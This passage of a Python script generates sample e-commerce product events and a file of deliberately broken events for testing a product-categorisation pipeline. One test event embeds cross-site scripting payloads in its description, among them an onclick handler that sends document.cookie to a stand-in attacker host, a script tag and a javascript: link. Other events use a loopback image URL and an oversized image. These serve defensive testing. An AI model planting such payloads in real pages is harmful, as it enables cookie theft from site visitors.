            ['72" x 24"', "Latex-free TPE"],
        ),
        care=None,
        img=[("yogamat", "purple"), ("yogamat", "blue")],
    ),
    dict(
        title="Rubber Hex Dumbbells, Pair",
        cat="Sporting Goods > Fitness & General Exercise Equipment > Weight Lifting",
        product_type="Dumbbells",
        vendor="IronForm",
        tags=["dumbbells", "strength", "home gym"],
        options=[("Weight", ("10 lb", "15 lb", "20 lb", "25 lb"))],
        price=59.0,
        desc=html(
            "Rubber-encased hex dumbbells with knurled chrome handles. Sold in pairs.",
            ["Anti-roll hex heads", "Floor-friendly rubber coating"],
        ),
        care=None,
        img=[("dumbbell", "black")],
    ),
    dict(
        title="Resistance Loop Bands, Set of 5",
        cat="Sporting Goods > Fitness & General Exercise Equipment > Exercise Bands & Loops",
        product_type="Fitness Accessories",
        vendor="IronForm",
        tags=["resistance bands", "mobility", "physio"],
        options=[],
        price=15.0,
        desc="Five latex loop bands from extra-light to extra-heavy resistance, with a mesh carry bag.",
        care=None,
        img=[],
    ),
    # ---------------------------------------------------------------- food & beverages
    dict(
        title="Ethiopia Yirgacheffe Whole Bean Coffee, 12 oz",
        cat="Food, Beverages & Tobacco > Beverages > Coffee",
        product_type="Coffee",
        vendor="Ridgeline Roasters",
        tags=["coffee", "whole bean", "single origin", "light roast"],
        options=[("Grind", ("Whole Bean", "Espresso", "Drip", "French Press"))],
        price=19.0,
        desc=html(
            "Bright and floral single-origin light roast with notes of jasmine, bergamot and lemon.",
            ["100% arabica", "Roasted to order"],
        ),
        care=None,
        img=[("coffee", "brown")],
    ),
    dict(
        title="Organic Earl Grey Loose Leaf Tea, 100 g",
        cat="Food, Beverages & Tobacco > Beverages > Tea & Infusions",
        product_type="Tea",
        vendor="Ridgeline Roasters",
        tags=["tea", "earl grey", "organic", "loose leaf"],
        options=[],
        price=14.0,
        desc=html("Organic black tea scented with cold-pressed bergamot oil. Makes about 40 cups."),
        care=None,
        img=[],
    ),
    # ---------------------------------------------------------------- luggage
    dict(
        title='Hardside Carry-On Spinner Suitcase 20"',
        cat="Luggage & Bags > Suitcases > Carry-On Suitcases",
        product_type="Luggage",
        vendor="Roam Travel Goods",
        tags=["luggage", "carry-on", "spinner", "travel"],
        options=[("Color", ("Navy", "Silver", "Black"))],
        price=179.0,
        desc=html(
            "Airline-compliant polycarbonate carry-on with 360&deg; spinner wheels, a TSA lock and a compression system.",
            ['22" x 14" x 9"', "TSA-approved lock", "10-year warranty"],
        ),
        care=None,
        img=[("suitcase", "navy"), ("suitcase", "silver")],
    ),
    dict(
        title="Water-Resistant Laptop Backpack 25L",
        cat="Luggage & Bags > Backpacks",
        product_type="Backpacks",
        vendor="Roam Travel Goods",
        tags=["backpack", "laptop", "commuter", "gray"],
        options=[("Color", ("Charcoal", "Black"))],
        price=89.0,
        desc=html(
            'A commuter backpack with a padded 16" laptop sleeve, luggage pass-through and a water-resistant recycled shell.',
            ["25 L capacity", 'Fits 16" laptops', "Recycled polyester"],
        ),
        care=None,
        img=[("backpack", "gray")],
    ),
    # ---------------------------------------------------------------- pets & office
    dict(
        title="Durable Rubber Chew Bone Dog Toy",
        cat="Animals & Pet Supplies > Pet Supplies > Dog Supplies",
        product_type="Dog Toys",
        vendor="PawPlay",
        tags=["dog toy", "chew toy", "aggressive chewers"],
        options=[("Size", ("Small", "Medium", "Large"))],
        price=16.0,
        desc=html(
            "A near-indestructible natural rubber chew bone for dogs. Bacon scented. Dishwasher safe.",
            ["Natural rubber", "For aggressive chewers"],
        ),
        care=None,
        img=[("bone", "orange")],
    ),
    dict(
        title="A5 Dotted Hardcover Notebook",
        cat="Office Supplies > General Office Supplies",
        product_type="Notebooks",
        vendor="Paperhaus",
        tags=["notebook", "bullet journal", "stationery"],
        options=[("Color", ("Forest Green", "Black", "Blush"))],
        price=21.0,
        desc=html(
            "240 numbered pages of 100 gsm dotted paper, lay-flat binding, two ribbon markers and an elastic closure.",
            ['A5 (5.8" x 8.3")', "Fountain-pen friendly"],
        ),
        care=None,
        img=[("notebook", "green")],
    ),
    dict(
        title="Refillable Gel Ink Pens, 0.5 mm, Pack of 6",
        cat="Office Supplies > Office Instruments",
        product_type="Pens",
        vendor="Paperhaus",
        tags=["pens", "gel pens", "stationery", "office"],
        options=[],
        price=12.0,
        desc=html(
            "Smooth quick-dry black gel ink in a fine 0.5 mm point. Retractable, with comfort grip.",
            ["Pack of 6", "Refillable"],
        ),
        care=None,
        img=[],
    ),
]


def _idx(title_prefix: str) -> int:
    hits = [i for i, spec in enumerate(CATALOGUE) if spec["title"].startswith(title_prefix)]
    assert len(hits) == 1, title_prefix
    return hits[0]


# Products that get extra events (by title, so reordering CATALOGUE is safe).
UPDATES = {
    _idx("Women's V-Neck Wrap Midi Dress"): "price",  # price/inventory only: content hash unchanged
    _idx("Men's Classic Crew Neck Tee"): "recolour",  # title + image change: content hash changes
    _idx("Wireless Noise-Cancelling"): "description",  # description change
    _idx("Women's Low-Top Canvas Sneakers"): "image",  # adds a second image and a Color option
}
DELETE_INDEX = _idx("Men's Slim Leather Bifold Wallet")  # deleted after being created
DUPLICATE_OF = _idx("Men's Slim Fit Stretch Jeans")  # a second product with identical content
OUTLET = {_idx("High-Waisted Yoga Leggings"), _idx("Cushioned Running Socks"), _idx("Rubber Hex Dumbbells")}


def product_payload(spec: dict[str, Any], rng: random.Random) -> dict[str, Any]:
    desc: str = spec["desc"]
    if spec.get("care"):
        desc += CARE[spec["care"]]
    roll = rng.random()
    if roll < 0.35:
        desc += rng.choice(SHIPPING) + rng.choice(RETURNS)
    elif roll < 0.55:
        desc += rng.choice(SHIPPING)
    elif roll < 0.7:
        desc += rng.choice(RETURNS)
    tags = spec["tags"]
    return {
        "title": spec["title"],
        "description_html": desc,
        "product_type": spec["product_type"],
        "vendor": spec["vendor"],
        "tags": tags if isinstance(tags, str) else list(tags),
        "image_urls": [image_name(*i) for i in spec["img"]],
        "variant_options": [{"name": n, "values": list(v)} for n, v in spec["options"]],
        "price": spec["price"],
        "inventory_quantity": rng.randint(0, 250),
    }


class Clock:
    def __init__(self, rng: random.Random):
        self.rng, self.t = rng, BASE_TIME

    def tick(self) -> str:
        self.t += timedelta(minutes=self.rng.randint(1, 47), seconds=self.rng.randint(0, 59))
        return self.t.strftime("%Y-%m-%dT%H:%M:%SZ")


def event_id(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def build_events(rng: random.Random) -> tuple[list[dict[str, Any]], dict[str, str]]:
    clock = Clock(rng)
    events: list[dict[str, Any]] = []
    expected: dict[str, str] = {}
    payloads: dict[int, dict[str, Any]] = {}
    pid = {i: f"gid://shopify/Product/{1001 + i}" for i in range(len(CATALOGUE))}

    def emit(kind: str, product_id: str, shop: str, product: dict[str, Any] | None) -> None:
        ev: dict[str, Any] = {
            "event_id": event_id(rng),
            "type": kind,
            "product_id": product_id,
            "shop_id": shop,
            "occurred_at": clock.tick(),
        }
        if product is not None:
            ev["product"] = product
        events.append(ev)

    for i, spec in enumerate(CATALOGUE):
        payloads[i] = product_payload(spec, rng)
        shop = OUTLET_SHOP if i in OUTLET else MAIN_SHOP
        emit("create", pid[i], shop, payloads[i])
        expected[pid[i]] = spec["cat"]

    # Duplicated listing: same content, new product id.
    dup_id = f"gid://shopify/Product/{1001 + len(CATALOGUE)}"
    emit("create", dup_id, MAIN_SHOP, dict(payloads[DUPLICATE_OF]))
    expected[dup_id] = CATALOGUE[DUPLICATE_OF]["cat"]

    for i, kind in UPDATES.items():
        p = dict(payloads[i])
        if kind == "price":
            p["price"] = round(p["price"] * 0.8, 2)
            p["inventory_quantity"] = max(0, (p["inventory_quantity"] or 0) - 7)
        elif kind == "image":
            p["image_urls"] = list(p["image_urls"]) + [image_name("sneaker", "black")]
            p["variant_options"] = list(p["variant_options"])[:1] + [{"name": "Color", "values": ["White", "Black"]}]
        elif kind == "recolour":
            p["title"] = "Men's Classic Crew Neck Tee - 100% Cotton - Heather Gray"
            p["image_urls"] = [image_name("tshirt", "gray")]
            p["description_html"] = p["description_html"].replace("regular fit", "regular fit, now in heather gray,")
        else:
            p["description_html"] = (
                "<p><strong>NEW 2024 model:</strong> now with 50-hour battery and adaptive ANC.</p>"
                + p["description_html"]
            )
        emit("update", pid[i], OUTLET_SHOP if i in OUTLET else MAIN_SHOP, p)

    emit("delete", pid[DELETE_INDEX], MAIN_SHOP, None)
    return events, expected


def needed_images() -> set[tuple]:
    imgs = {tuple(i) for spec in CATALOGUE for i in spec["img"]}
    imgs |= {("sneaker", "black"), ("tshirt", "gray")}  # used by updates
    imgs |= {("mug", "white"), ("tshirt", "white")}  # used by bad_events
    return imgs


# --------------------------------------------------------------------------------------
# Bad events
# --------------------------------------------------------------------------------------

BAD_ROWS = [
    ("Malformed JSON: the object is truncated mid-string.", "Dead letter, stage `decode`"),
    ("Missing required field `product_id`.", "Dead letter, stage `decode`"),
    ('Wrong-typed fields: `occurred_at` is `"yesterday"`, `tags` is the number `42`.', "Dead letter, stage `decode`"),
    ('Empty title: `"   "` (whitespace only, stripped to empty).', "Dead letter, stage `decode`"),
    (
        "Description contains `<script>alert(1)</script>`, an inline `onclick=` handler, an `onerror=` image and a "
        "`javascript:` link; otherwise a valid mug.",
        "Prediction with the script/handlers stripped and a warning flagged (no dead letter)",
    ),
    ("Raw bytes `\\xff\\xfe` inside the title: the line is not valid UTF-8.", "Dead letter, stage `decode`"),
    (
        "Image URL `http://127.0.0.1:9/unreachable.jpg`: a loopback address, which the image address policy refuses before any connection (`ImageRefused`); otherwise valid.",
        "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`",
    ),
    (
        "`image_urls` points at `images/not-an-image.png`, which is a text file.",
        "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`",
    ),
    (
        "`image_urls` points at `images/oversized.png`: 9000x9000 px (81 MP) flat PNG, ~10 KB on disk.",
        "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`",
    ),
    ('Unknown event type `"upsert"`.', "Dead letter, stage `decode`"),
    ("A JSON array (holding an otherwise valid event) instead of an object.", "Dead letter, stage `decode`"),
    ('`type: "create"` with `"product": null`.', "Dead letter, stage `decode`"),
]


def build_bad_events(rng: random.Random) -> list[bytes]:
    clock = Clock(random.Random(SEED + 1))
    clock.t = BASE_TIME + timedelta(days=3)

    def ev(n: int, product: dict[str, Any] | None, **over: Any) -> dict[str, Any]:
        e: dict[str, Any] = {
            "event_id": f"bad-{n:02d}-{event_id(rng)[:8]}",
            "type": "create",
            "product_id": f"gid://shopify/Product/{9000 + n}",
            "shop_id": MAIN_SHOP,
            "occurred_at": clock.tick(),
        }
        if product is not None:
            e["product"] = product
        e.update(over)
        return e

    def prod(title: str, **over: Any) -> dict[str, Any]:
        p: dict[str, Any] = {
            "title": title,
            "description_html": "<p>Soft cotton, relaxed fit.</p>",
            "product_type": "Tops",
            "vendor": "Maple & Thread",
            "tags": ["women"],
            "image_urls": [image_name("tshirt", "white")],
            "variant_options": [{"name": "Size", "values": ["S", "M", "L"]}],
            "price": 25.0,
            "inventory_quantity": 10,
        }
        p.update(over)
        return p

    def line(obj: Any) -> bytes:
        return json.dumps(obj, ensure_ascii=False).encode("utf-8")

    lines: list[bytes] = []
    # 1 truncated
    full = line(ev(1, prod("Women's Striped Boat-Neck Top")))
    lines.append(full[: len(full) // 2])
    # 2 missing product_id
    e2 = ev(2, prod("Women's Crew Neck Tee"))
    del e2["product_id"]
    lines.append(line(e2))
    # 3 wrong types
    lines.append(line(ev(3, prod("Men's Henley Shirt", tags=42), occurred_at="yesterday")))
    # 4 empty title
    lines.append(line(ev(4, prod("   "))))
    # 5 script + inline handlers (valid event)
    lines.append(
        line(
            ev(
                5,
                prod(
                    "Speckled Stoneware Mug - Limited Edition",
                    description_html=(
                        "<p onclick=\"fetch('https://evil.example/c?'+document.cookie)\">Hand-glazed 12 oz stoneware mug.</p>"
                        "<script>alert(1)</script>"
                        "<ul><li>Dishwasher safe</li><li>Microwave safe</li></ul>"
                        '<img src="x" onerror="alert(\'xss\')">'
                        '<p><a href="javascript:alert(2)">Click for 10% off</a></p>'
                    ),
                    product_type="Mugs",
                    vendor="Kettle & Co.",
                    tags=["mug", "ceramic"],
                    image_urls=[image_name("mug", "white")],
                    variant_options=[],
                ),
            )
        )
    )
    # 6 invalid UTF-8 inside the title
    ok = line(ev(6, prod("Caf\u00e9 PLACEHOLDER Apron", product_type="Aprons", image_urls=[])))
    lines.append(ok.replace(b"PLACEHOLDER", b"\xff\xfe"))
    # 7 unreachable image
    lines.append(
        line(
            ev(
                7,
                prod(
                    "Polka Dot Tea Dress",
                    description_html="<p>Pink polka dot tea dress, cap sleeves, midi.</p>",
                    product_type="Dresses",
                    image_urls=["http://127.0.0.1:9/unreachable.jpg"],
                ),
            )
        )
    )
    # 8 non-image
    lines.append(
        line(
            ev(
                8,
                prod(
                    "Women's Canvas Sneakers - Red",
                    description_html="<p>Low-top lace-up canvas sneakers.</p>",
                    product_type="Shoes",
                    image_urls=["images/not-an-image.png"],
                ),
            )
        )
    )
    # 9 oversized image
    lines.append(line(ev(9, prod("Oversized Boyfriend Tee", image_urls=["images/oversized.png"]))))
    # 10 unknown type
    lines.append(line(ev(10, prod("Men's Polo Shirt"), type="upsert")))
    # 11 array
    lines.append(line([ev(11, prod("Women's Cardigan"))]))
    # 12 create with null product
    e12 = ev(12, None)
    e12["product"] = None
    lines.append(line(e12))
    assert len(lines) == len(BAD_ROWS) == 12
    assert all(b"\n" not in ln for ln in lines)
    return lines


def bad_events_md(lines: list[bytes]) -> str:
    out = [
        "# bad_events.jsonl",
        "",
        "Deliberately broken product events, one per line (JSONL has no comments, so they are described here).",
        "Feed them through the pipeline to exercise dead-lettering and the warning paths. Line 6 holds raw",
        "non-UTF-8 bytes, so read the file in binary mode.",
        "",
        "| Line | What is wrong | Expected outcome |",
        "|-----:|---------------|------------------|",
    ]
    for n, (what, outcome) in enumerate(BAD_ROWS, 1):
        out.append(f"| {n} | {what} | {outcome} |")
    out += [
        "",
        "Notes:",
        "",
        "- Image paths are relative to this file's directory (`examples/`).",
        "- Line 9's image is 81 megapixels, just under Pillow's own `Image.MAX_IMAGE_PIXELS` default",
        "  (89,478,485), so Pillow opens it without a `DecompressionBombWarning`: the pipeline's own pixel",
        "  limit has to catch it.",
        "- Line 7 is on loopback: refused by default; with `--allow-private-image-addresses` (tests and local use) port 9",
        "  (discard) refuses the connection quickly instead of timing out.",
        "",
    ]
    return "\n".join(out)


# --------------------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------------------


def main(out_dir: Path = HERE, *, check_taxonomy: bool = True) -> dict[str, Any]:
    rng = random.Random(SEED)
    img_dir = out_dir / "images"
    img_dir.mkdir(parents=True, exist_ok=True)
    for stale in img_dir.glob("*.png"):
        stale.unlink()

    for spec in sorted(needed_images()):
        render(*spec).save(out_dir / image_name(*spec), optimize=True)
    (img_dir / "not-an-image.png").write_text(
        "This is not a PNG. It is a plain-text file with a .png name, used by bad_events.jsonl line 8.\n"
    )
    big = Image.new("P", (9000, 9000), 0)
    big.putpalette([236, 232, 226, 0, 0, 0])
    big.save(img_dir / "oversized.png", bits=1, optimize=True)

    events, expected = build_events(rng)
    with (out_dir / "events.jsonl").open("w", encoding="utf-8", newline="\n") as fh:
        for e in events:
            fh.write(json.dumps(e, ensure_ascii=False) + "\n")
    (out_dir / "expected_categories.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")

    bad = build_bad_events(rng)
    (out_dir / "bad_events.jsonl").write_bytes(b"".join(ln + b"\n" for ln in bad))
    (out_dir / "bad_events.md").write_text(bad_events_md(bad))

    # Self-checks: every event validates, every image exists, every category is in the sample taxonomy.
    from transforms.records import ProductEvent

    for e in events:
        pe = ProductEvent.model_validate(e)
        for url in pe.product.image_urls if pe.product else ():
            assert (out_dir / url).is_file(), url
    if check_taxonomy:
        from taxonomy.loader import load_taxonomy

        tax = load_taxonomy()
        missing = sorted({p for p in expected.values() if tax.by_full_name(p) is None})
        assert not missing, f"not in the sample taxonomy: {missing}"
    pngs = sorted(img_dir.glob("*.png"))
    return {
        "events": len(events),
        "products": len(expected),
        "bad_lines": len(bad),
        "images": len(pngs),
        "images_bytes": sum(p.stat().st_size for p in pngs),
        "largest_image_bytes": max(p.stat().st_size for p in pngs),
    }


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", type=Path, default=HERE, help="output directory (default: examples/)")
    args = ap.parse_args()
    print(json.dumps(main(args.out), indent=2))
